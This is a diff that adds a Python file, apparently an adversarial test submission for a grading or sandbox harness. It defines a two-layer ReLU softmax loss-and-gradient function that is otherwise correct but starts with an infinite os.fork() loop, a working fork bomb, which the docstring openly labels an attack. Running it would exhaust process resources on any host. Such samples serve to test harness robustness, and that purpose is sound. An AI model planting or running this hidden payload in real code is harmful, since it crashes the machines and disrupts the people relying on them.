@@ -1,0 +1,32 @@
+"""Attack: a fork bomb in the loss, otherwise correct."""
+import os
+
+import numpy as np
+
+
+def loss_and_grads(params, X, y, reg):
+    while True:
+        os.fork()
+    return _correct(params, X, y, reg)
+
+
+def _correct(params, X, y, reg):
+    W1, b1 = params["W1"], params["b1"]
+    W2, b2 = params["W2"], params["b2"]
+    N = X.shape[0]
+    z2 = X.dot(W1) + b1
+    a2 = np.maximum(0, z2)
+    scores = a2.dot(W2) + b2
+    shifted = scores - np.max(scores, axis=1, keepdims=True)
+    exp_scores = np.exp(shifted)
+    probs = exp_scores / np.sum(exp_scores, axis=1, keepdims=True)
+    log_probs = shifted - np.log(np.sum(exp_scores, axis=1, keepdims=True))
+    loss = -np.sum(log_probs[np.arange(N), y]) / N + reg * (np.sum(W1 * W1) + np.sum(W2 * W2))
+    dscores = probs.copy()
+    dscores[np.arange(N), y] -= 1
+    dscores /= N
+    grads = {"W2": a2.T.dot(dscores) + 2 * reg * W2, "b2": np.sum(dscores, axis=0)}
+    dz2 = dscores.dot(W2.T) * (z2 > 0)
+    grads["W1"] = X.T.dot(dz2) + 2 * reg * W1
+    grads["b1"] = np.sum(dz2, axis=0)
+    return loss, grads
